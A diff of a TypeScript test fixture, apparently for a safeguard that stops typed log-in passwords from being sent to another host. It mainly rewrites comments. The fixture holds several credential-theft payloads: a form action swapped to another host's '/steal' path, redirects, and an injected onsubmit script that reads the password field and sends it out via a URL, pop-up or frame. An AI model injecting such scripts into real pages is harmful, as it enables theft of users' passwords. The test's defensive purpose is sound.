@@ -6,10 +6,10 @@ import { page, type Service, to } from './service.ts'
 export const SECRET = 'c0rrect-horse-battery'
 const variables = { ...USER, CONSENT_PASSWORD: SECRET }
 
-/** Somebody else's server, which no configuration names. */
+/** A server of another party, which no configuration names. */
 interface Abroad {
   readonly origin: string
-  /** What it was sent, as it came. */
+  /** The requests that it received, as `METHOD path body`. */
   readonly sent: readonly string[]
 }
 
@@ -31,7 +31,7 @@ export const FIELD =
 type Instead = NonNullable<Wishes['instead']>
 type Alter = (html: string) => string
 
-/** Walks through pages whose log-in is altered, by a user with a password that is told from all other text. */
+/** Walks through pages with an altered log-in page. The user's password occurs in no other text. */
 export const walkThrough = (
   session: Walker,
   alter: Alter,
@@ -51,7 +51,7 @@ export const submit =
   (html) =>
     `${html}<script>document.forms[0].onsubmit = (event) => { const pw = document.querySelector('[type=password]').value; ${script} }</script>`
 
-/** Runs a script with what was typed before the form is sent. */
+/** Runs a script before the form is sent. The typed password is in `pw`. */
 export const sending = (script: string): Alter =>
   submit(
     `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
@@ -61,7 +61,7 @@ export const asItIs: Alter = (html) => html
 
 const BOTH = '<consent_username#*>, <consent_password#*>'
 
-/** Ways of a page to lead what is typed to another host, and what is said of it. */
+/** Ways in which a page can send typed values to another host, and how the reason describes them. */
 export const WAYS: readonly (readonly [
   what: string,
   says: string,
@@ -69,18 +69,18 @@ export const WAYS: readonly (readonly [
   instead?: (abroad: string) => Instead,
 ])[] = [
   [
-    'a form that goes there',
+    'a form that posts to another host',
     `POST ABROAD with ${BOTH}`,
     (abroad) => (html) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
   ],
   [
-    'a form that is sent on there',
+    'a form that is redirected to another host',
     `POST ABROAD with ${BOTH}`,
     () => asItIs,
     (abroad) => ({ 'POST /sign-in': () => to(`${abroad}/steal`, 307) }),
   ],
   [
-    'an address with what was typed',
+    'a script that opens an address with typed values on another host',
     'GET ABROAD with <consent_password#*>',
     (abroad) =>
       submit(
@@ -88,13 +88,13 @@ export const WAYS: readonly (readonly [
       ),
   ],
   [
-    'a pop-up that is sent on there',
+    'a pop-up that is redirected to another host',
     'GET ABROAD with <consent_password#*>',
     () => submit("event.preventDefault(); window.open('/on?x=' + pw)"),
     (abroad) => ({ '/on': ({ url }) => to(`${abroad}/next${url.search}`) }),
   ],
   [
-    'a form in a frame',
+    'a form in a frame that posts to another host',
     'POST ABROAD for a frame with <consent_password#*>',
     (abroad) =>
       submit(
@@ -103,10 +103,10 @@ export const WAYS: readonly (readonly [
   ],
 ]
 
-/** What is said of a request that was stopped. */
+/** The reason for a stopped request. */
 export const stopped = (says: string, own: Service, abroad: string) =>
   new RegExp(
-    `${says} was not sent from the page at ${own.origin}`
+    `${says} from the page at ${own.origin} was not sent`
       .replace(/[.?()[\]/]/g, '\\$&')
       .replace('ABROAD', abroad)
       .replaceAll('*', '[0-9a-f]{10}'),
